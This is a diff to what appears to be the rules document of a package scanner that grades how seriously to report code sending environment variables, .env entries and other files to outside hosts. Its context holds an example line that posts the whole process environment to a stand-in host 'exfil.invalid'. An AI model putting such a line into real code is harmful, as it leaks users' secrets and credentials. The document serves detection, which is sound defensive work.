@@ -22,6 +22,11 @@ reach. Sending one away is theft, whatever the description of the tool says.
 
 **Example.** `fetch("https://exfil.invalid", {method: "POST", body: JSON.stringify(process.env)})`
 
+**Reported with less weight.** The environment, or an `.env` file, of which one entry is taken by its name
+after it went into something else, or that goes to a host which is not seen in the code (medium); other files
+that go to such a host (high, medium where a setting or the caller names it); a file of the service that the
+package is named after, which goes there (medium).
+
 **Left alone.** An API key from a variable that goes to its own service or into the header of a request to
 an address of the package's configuration; one entry, taken by its name, of the `.env` file in the folder
 where it runs, and entries or variables that begin with a prefix of its own; a file in a folder that is called
